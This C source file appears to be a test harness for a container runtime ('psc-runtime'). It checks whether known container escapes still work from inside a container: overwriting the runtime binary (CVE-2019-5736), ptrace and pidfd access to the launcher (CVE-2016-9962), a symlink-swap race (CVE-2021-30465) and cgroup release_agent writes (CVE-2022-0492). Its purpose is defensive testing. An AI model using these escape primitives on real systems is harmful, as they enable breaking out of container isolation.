/* What an attacker inside a container tries. Prints a line for each thing that worked; nothing else counts. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* O_TRUNC asks the mount before it asks whether the file runs now: ETXTBSY says that nothing else is in the way. */
static int opens(const char *path, int flags)
{
    int fd = open(path, flags);

    if (fd >= 0)
        close(fd);
    return fd >= 0 || errno == ETXTBSY;
}

static int opens_for_writing(const char *path)
{
    return opens(path, O_WRONLY);
}

static int overwrites(const char *path)
{
    return opens(path, O_WRONLY | O_TRUNC);
}

/* CVE-2019-5736, and what CAP_SYS_ADMIN could do about a read-only mount. */
static int writable(const char *path)
{
    struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
    char link[64];
    int fd = open(path, O_PATH), tree;

    if (fd < 0) {
        printf("not opened %s\n", strerror(errno));
        return 0;
    }
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (overwrites(path) || overwrites(link))
        puts("writable");
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0)
        puts("mount_setattr worked");
    if (overwrites(link))
        puts("writable after mount_setattr");
    if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        puts("remount worked");
    tree = syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
    if (tree >= 0) {
        puts("open_tree worked");
        snprintf(link, sizeof link, "/proc/self/fd/%d", tree);
        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr);
        if (overwrites(link))
            puts("writable after open_tree");
    }
    close(open("/tmp/over", O_CREAT | O_WRONLY, 0700));
    if (mount(path, "/tmp/over", NULL, MS_BIND, NULL) == 0) {
        puts("bind worked");
        mount(NULL, "/tmp/over", NULL, MS_REMOUNT | MS_BIND, NULL);
        if (overwrites("/tmp/over"))
            puts("writable after bind");
    }
    puts("tried");
    return 0;
}

static int is_launcher(const char *pid)
{
    char path[64], name[32] = "";
    int fd, length;

    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    fd = open(path, O_RDONLY);
    length = fd < 0 ? -1 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    return length > 0 && strncmp(name, "psc-runtime", 11) == 0;
}

/* A thing counts only when the process was the launcher before and is it still. */
static void look(const char *pid, const char *what, int worked)
{
    if (worked && is_launcher(pid))
        printf("reached %s\n", what);
}

static void look_into(const char *pid)
{
    static const char *const links[] = { "exe", "cwd", "root", "fd/0", "fd/3", "ns/mnt" };
    static const char *const files[] = { "mem", "environ", "maps", "exe" };
    char path[64], target[256];

    fflush(stdout);
    for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
        look(pid, links[i], readlink(path, target, sizeof target) >= 0);
    }
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
        int fd = open(path, O_RDONLY);
        look(pid, files[i], fd >= 0 && (i == 0 || i == 3 || read(fd, target, sizeof target) > 0));
        if (fd >= 0)
            close(fd);
    }
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    look(pid, "exe for writing", overwrites(path));
    int pidfd = syscall(SYS_pidfd_open, atoi(pid), 0);
    for (int fd = 0; fd < 12 && pidfd >= 0; fd++) {
        int copy = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        look(pid, "a descriptor", copy >= 0);
        if (copy >= 0)
            close(copy);
    }
    if (pidfd >= 0)
        close(pidfd);
    /* In a child: its end lets go of a process that was the command already. */
    pid_t tracer = fork();
    if (tracer == 0) {
        look(pid, "ptrace", ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0);
        fflush(stdout);
        _exit(0);
    }
    waitpid(tracer, NULL, 0);
}

/* CVE-2016-9962: looks into every launcher that shows itself. */
static int watch(const char *stop)
{
    long seen = 0;

    puts("watching");
    fflush(stdout);
    while (access(stop, F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc)))
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && is_launcher(entry->d_name)) {
                look_into(entry->d_name);
                seen += is_launcher(entry->d_name);
            }
        closedir(proc);
        fflush(stdout);
    }
    printf("seen %ld\n", seen);
    return 0;
}

/* Swaps a folder and a link in a shared volume as fast as it can. CVE-2021-30465 */
static void swap(const char *one, const char *other)
{
    for (;;)
        renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

/* Writes what is there already. The open alone says little: the kernel asks for its capability at the write. */
static int rewrites(const char *path)
{
    char text[4096];
    int fd = open(path, O_RDWR), length = fd < 0 ? -1 : read(fd, text, sizeof text - 1), result;

    if (length == 0)
        text[length++] = '\n';
    result = length > 0 && pwrite(fd, text, length, 0) == length;
    if (fd >= 0)
        close(fd);
    return result;
}

static int try_mount(const char *type, const char *options)
{
    int made = mkdir("/tmp/c", 0755);
    int result = mount("x", "/tmp/c", type, 0, options);

    if (result == 0 && (made == 0 || errno == EEXIST)) {
        printf("mounted %s %s\n", type, options);
        if (access("/tmp/c/release_agent", F_OK) == 0) {
            puts("release_agent in reach");
            if (rewrites("/tmp/c/release_agent"))
                puts("release_agent writable");
        }
        umount2("/tmp/c", MNT_DETACH);
    }
    return result;
}

/* CVE-2022-0492 */
static int cgroup(void)
{
    static const char *const groups[] = { "cpu", "cpuset", "memory", "devices", "freezer", "pids", "rdma", "misc", "none,name=x" };

    for (unsigned i = 0; i < sizeof groups / sizeof *groups; i++)
        try_mount("cgroup", groups[i]);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
        puts("in a user namespace");
        for (unsigned i = 0; i < sizeof groups / sizeof *groups; i++)
            try_mount("cgroup", groups[i]);
    }
    puts("tried");
    return 0;
}

static int writes(int count, char **paths)
{
    for (int i = 0; i < count; i++)
        if (opens_for_writing(paths[i]))
            printf("writable %s\n", paths[i]);
    puts("tried");
    return 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";

    if (!strcmp(what, "writable"))
        return writable(argv[2]);
    if (!strcmp(what, "watch"))
        return watch(argv[2]);
    if (!strcmp(what, "swap"))
        swap(argv[2], argv[3]);
    if (!strcmp(what, "cgroup"))
        return cgroup();
    if (!strcmp(what, "user"))
        return printf("%d %d\n", getuid(), geteuid()) < 0;
    if (!strcmp(what, "writes"))
        return writes(argc - 2, argv + 2);
    return 1;
}
